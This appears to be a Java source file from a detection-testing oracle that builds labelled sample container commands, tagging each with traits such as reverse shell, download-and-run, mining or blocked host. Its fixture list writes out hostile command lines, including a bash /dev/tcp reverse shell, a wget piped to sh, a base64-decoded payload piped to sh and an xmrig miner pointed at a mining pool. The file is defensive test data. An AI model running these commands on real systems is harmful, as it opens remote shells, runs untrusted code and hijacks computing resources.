package io.tallyman.oracle;

import java.util.List;
import java.util.Set;

/**
 * A program's start, with what it is known for: so labelled by hand, for the oracle reads no command lines.
 *
 * @param executable path of the program
 * @param arguments from the program's name on
 * @param targets the addresses and names that a listed binary's arguments point to
 */
record Command(String executable, List<String> arguments, Set<Trait> traits, List<String> targets) implements Deed {

    /** What the rules of step 4 ask. */
    enum Trait {
        LISTED,
        NAMES_EGRESS,
        RUNS_DOWNLOAD,
        REVERSE_SHELL,
        MINES,
        SELLS_BANDWIDTH,
        NAMES_BLOCKED,
        EXCLUDED
    }

    private static final Command MINER = of("/usr/bin/xmrig", "", "MINES", "/usr/bin/xmrig", "--threads=%d");
    private static final Command PROXYWARE =
            of("/app/honeygain", "", "SELLS_BANDWIDTH", "/app/honeygain", "-tou-accept", "-device=d%d");

    /** All that containers of the worlds run; {@code %d} is a number that makes each unlike the others. */
    private static final List<Command> ALL = List.of(
            of(
                    "/usr/bin/curl",
                    "198.51.100.20",
                    "LISTED NAMES_EGRESS",
                    "curl",
                    "-so",
                    "/tmp/x",
                    "http://198.51.100.20/x%d"),
            of("/usr/bin/wget", "files.example", "LISTED NAMES_EGRESS", "wget", "-q", "http://files.example/f%d"),
            of(
                    "/bin/busybox",
                    "198.51.100.20",
                    "LISTED NAMES_EGRESS RUNS_DOWNLOAD",
                    "sh",
                    "-c",
                    "wget -q -O- http://198.51.100.20/i%d.sh | sh"),
            of(
                    "/bin/bash",
                    "198.51.100.21",
                    "LISTED NAMES_EGRESS REVERSE_SHELL",
                    "bash",
                    "-c",
                    "bash -i >& /dev/tcp/198.51.100.21/4%d 0>&1"),
            of("/bin/busybox", "", "LISTED RUNS_DOWNLOAD", "sh", "-c", "echo aGVsbG8%d | base64 -d | sh"),
            of(
                    "/tmp/xmrig",
                    "pool.supportxmr.com",
                    "MINES NAMES_BLOCKED",
                    "/tmp/xmrig",
                    "-o",
                    "stratum+tcp://pool.supportxmr.com:3333",
                    "-u",
                    "w%d"),
            MINER,
            of(
                    "/usr/bin/curl",
                    "203.0.113.9",
                    "LISTED NAMES_EGRESS NAMES_BLOCKED",
                    "curl",
                    "-s",
                    "http://203.0.113.9/b%d"),
            of("/app/agent", "c2.example", "NAMES_BLOCKED", "/app/agent", "--server", "https://c2.example/%d"),
            of("/usr/bin/curl", "127.0.0.1", "LISTED", "curl", "-fsS", "http://127.0.0.1:8080/health%d"),
            of("/usr/bin/curl", "10.30.0.12", "LISTED", "curl", "-fsS", "http://10.30.0.12/c%d"),
            of("/usr/bin/curl", "repo.corp.example", "LISTED", "curl", "-fsS", "https://repo.corp.example/r%d"),
            of(
                    "/bin/busybox",
                    "repo.corp.example",
                    "LISTED",
                    "sh",
                    "-c",
                    "wget -q -O- https://repo.corp.example/s%d.sh | sh"),
            of("/bin/busybox", "", "LISTED", "sh", "-c", "echo ready %d"),
            of("/bin/sleep", "", "", "sleep", "%d"),
            of("/app/agent", "198.51.100.20", "", "/app/agent", "--server", "http://198.51.100.20/a%d"),
            of(
                    "/usr/bin/curl",
                    "198.51.100.7",
                    "LISTED NAMES_EGRESS EXCLUDED",
                    "curl",
                    "-fsS",
                    "http://198.51.100.7/health%d"));

    /** What a container begins with, mostly. */
    static final Command SERVICE = of("/app/service", "", "", "/app/service", "--port", "8%d");

    private static Command of(String executable, String targets, String traits, String... arguments) {
        return new Command(
                executable,
                List.of(arguments),
                Set.of(
                        traits.isEmpty()
                                ? new Trait[0]
                                : java.util.Arrays.stream(traits.split(" "))
                                        .map(Trait::valueOf)
                                        .toArray(Trait[]::new)),
                targets.isEmpty() ? List.of() : List.of(targets));
    }

    static Command pick(java.util.random.RandomGenerator random) {
        return ALL.get(random.nextInt(ALL.size()));
    }

    /** With its number; every other lone miner is proxyware instead, of which the analytics say the same. */
    Command numbered(int number) {
        var shown = equals(MINER) && number % 2 == 0 ? PROXYWARE : this;
        return new Command(
                shown.executable,
                shown.arguments.stream()
                        .map(text -> text.replace("%d", Integer.toString(number)))
                        .toList(),
                shown.traits,
                shown.targets);
    }

    boolean is(Trait trait) {
        return traits.contains(trait);
    }
}
